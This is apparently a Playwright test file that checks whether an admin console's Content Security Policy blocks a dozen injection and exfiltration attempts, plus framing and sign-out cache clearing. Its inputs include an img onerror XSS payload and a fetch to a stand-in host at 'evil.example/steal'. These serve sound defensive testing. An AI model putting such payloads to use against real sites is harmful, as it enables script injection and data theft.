import { createServer } from "node:http";
import type { Page } from "@playwright/test";
import { listen } from "../../scripts/lib/listen.ts";
import { findNginx, startNginx } from "../../scripts/lib/nginx.ts";
import { ROOT } from "../../scripts/lib/root.ts";
import { expect, signIn, test } from "../fixtures.ts";
import { startStatic } from "../lib/site.ts";
import { rowsOf } from "../lib/shown.ts";

/** Attempts an action that the policy forbids. Returns the directive that refused it. */
const refusedBy = async (page: Page, attempt: string): Promise<string> =>
  page.evaluate(async (name) => {
    const refusal = new Promise<string>((resolve) =>
      document.addEventListener("securitypolicyviolation", (it) => resolve(it.effectiveDirective), { once: true }),
    );
    const attempts: Record<string, () => unknown> = {
      "inline script": () => {
        const script = document.createElement("script");
        script.append("globalThis.ran = true");
        document.body.append(script);
      },
      "script of another site": () => {
        const script = document.createElement("script");
        script.setAttribute("src", "https://evil.example/x.js");
        document.body.append(script);
      },
      "inline handler": () => document.body.setAttribute("onclick", "globalThis.ran = true"),
      innerHTML: () => (document.body.innerHTML = "<img src=x onerror='globalThis.ran = true'>"),
      // In a task of its own: what a debugger evaluates may use eval.
      // oxlint-disable-next-line no-eval -- that it is refused is the test
      eval: () => void setTimeout(() => globalThis.eval("globalThis.ran = true")),
      "foreign connection": () => void fetch("https://evil.example/steal").catch(() => undefined),
      "foreign socket": () => void new WebSocket("wss://other-tenant.webpubsub.azure.com/"),
      "foreign picture": () => void (new Image().src = "http://127.0.0.1:9/pixel.png"),
      "foreign frame": () => {
        const frame = document.createElement("iframe");
        frame.src = "https://evil.example/";
        document.body.append(frame);
      },
      "inline style": () => {
        const style = document.createElement("style");
        style.append("body { display: none }");
        document.head.append(style);
      },
      "another base": () => {
        const base = document.createElement("base");
        base.href = "https://evil.example/";
        document.head.append(base);
      },
      "foreign form": () => {
        const form = document.createElement("form");
        form.action = "https://evil.example/";
        document.body.append(form);
        form.submit();
      },
    };
    try {
      attempts[name]!();
    } catch {
      // A blocked attempt throws; the event names the violated directive.
    }
    const directive = await refusal;
    if ("ran" in globalThis) throw new Error(`${name} ran`);
    return directive;
  }, attempt);

for (const [attempt, directive] of Object.entries({
  "inline script": "require-trusted-types-for",
  "script of another site": "require-trusted-types-for",
  "inline handler": "require-trusted-types-for",
  innerHTML: "require-trusted-types-for",
  eval: "require-trusted-types-for",
  "foreign connection": "connect-src",
  "foreign socket": "connect-src",
  "foreign picture": "img-src",
  "foreign frame": "frame-src",
  "inline style": "style-src-elem",
  "another base": "base-uri",
  "foreign form": "form-action",
}))
  test(`content security policy: ${attempt} → refused`, async ({ page, problems }) => {
    problems.allow(/policy: |console: |EvalError/);
    await signIn(page, "SUPER_ADMIN", "/withdraw/bank-list");
    await expect(rowsOf(page).nth(0)).toBeVisible();
    expect(await refusedBy(page, attempt)).toBe(directive);
  });

test("content security policy: console in a frame → refused", async ({ page, site, problems }) => {
  problems.allow(/policy: |console: /);
  const around = createServer((_, answer) => {
    answer.setHeader("Content-Type", "text/html");
    answer.end(`<iframe src="${site.url}/admin"></iframe>`);
  });
  const url = await listen(around);
  await page.goto(url);
  const frame = page.frames()[1];
  expect(await frame?.locator("#root").count()).toBe(0);
  around.closeAllConnections();
  around.close();
});

test("sign-out: Clear-Site-Data clears the cache", async ({ page }) => {
  await signIn(page, "SUPER_ADMIN", "/withdraw/bank-list");
  const answer = await page.request.get("/api/auth/logout", { maxRedirects: 0 });
  expect(answer.headers()["clear-site-data"]).toBe('"cache"');
});

test("content security policy: configured realtime hub → allowed", async ({ request }) => {
  const nginx = findNginx();
  const hub = "wss://ours.webpubsub.azure.com";
  const build = { root: `${ROOT}packages/console/dist`, upstream: "127.0.0.1:9", realtimeHub: hub };
  const front = nginx ? await startNginx(nginx, build) : await startStatic(build);
  const { "content-security-policy": policy } = (await request.get(`${front.url}/`)).headers();
  await front.stop();
  expect(policy).toContain(`; connect-src 'self' ${hub}; `);
});
